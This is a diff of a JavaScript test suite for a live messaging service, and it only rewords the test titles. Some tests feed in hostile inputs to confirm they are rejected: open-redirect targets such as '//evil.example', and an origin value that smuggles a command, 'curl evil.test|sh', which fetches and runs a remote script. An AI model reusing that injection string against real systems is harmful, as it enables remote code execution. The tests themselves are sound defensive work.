@@ -50,7 +50,7 @@ describe('another account', () => {
     return visitor.ready()
   }
 
-  test('sees nothing of channels and connections that are not its own', async () => {
+  test('sees no channels and connections of others', async () => {
     const name = freshChannel()
     const client = await Client.join(server.sockets + name)
     const ably = await clients.connected({ key, clientId: 'kiosk' })
@@ -88,7 +88,7 @@ describe('another account', () => {
 })
 
 describe('a viewer', () => {
-  test('looks on, and may neither publish nor disconnect', async () => {
+  test('may look, but not publish or disconnect', async () => {
     const name = freshChannel()
     const viewer = await owner.invite('viewer', 'vic@example.com')
     const client = await Client.join(server.sockets + name)
@@ -104,7 +104,7 @@ describe('a viewer', () => {
 })
 
 describe('without scripts', () => {
-  test('a message is published, and somebody disconnected', async () => {
+  test('publishing and disconnecting work', async () => {
     const name = freshChannel()
     const client = await Client.join(server.sockets + name)
     const published = await owner.post('/live/publish', { channel: name, data: '{"a":1}' })
@@ -128,14 +128,14 @@ describe('without scripts', () => {
     expect(trail).toContain('Disconnected the channel')
   })
 
-  test('where to go back to is a live page, or none', async () => {
+  test('the way back leads to a live page only', async () => {
     for (const back of ['//evil.example', '/live\\@evil', 'https://evil.example', '/account']) {
       const { location } = await owner.post('/live/disconnect', { id: 'none', back })
       expect(location).toBe('/live')
     }
   })
 
-  test('what is kept is there, page by page', async () => {
+  test('kept messages are shown page by page', async () => {
     const name = freshChannel()
     for (let i = 0; i < 35; i++) await rest(name, { data: `message ${i}.` })
     const newest = await owner.get(`/live/channel?name=${name}&app=${appId}`)
@@ -158,7 +158,7 @@ describe('refusals', () => {
     expect(text).toContain('LATCHKEY_ALLOWED_ORIGINS=')
   })
 
-  test('put nothing into a shell that no browser sends', async () => {
+  test('propose no origin for a shell that no browser sends', async () => {
     const origin = `https://x.test';curl evil.test|sh;'`
     await knock(origin)
     const text = await refusals()
@@ -166,7 +166,7 @@ describe('refusals', () => {
     expect(text).not.toContain(`good.test,https://x.test`)
   })
 
-  test('tell of messages too, and not what was in them', async () => {
+  test('include messages, without their content', async () => {
     const name = freshChannel()
     await reserve(server, name, { sendKey: 's' })
     const client = await Client.join(server.sockets + name)
@@ -182,7 +182,7 @@ describe('refusals', () => {
       expect(text).not.toContain(said)
   })
 
-  test('hold no key and no query', async () => {
+  test('contain no key and no query', async () => {
     const name = freshChannel()
     await reserve(server, name, { joinKey: 'the-right-one' })
     await upgradeAnswer(`${server.sockets}${name}?joinKey=the-wrong-one`)
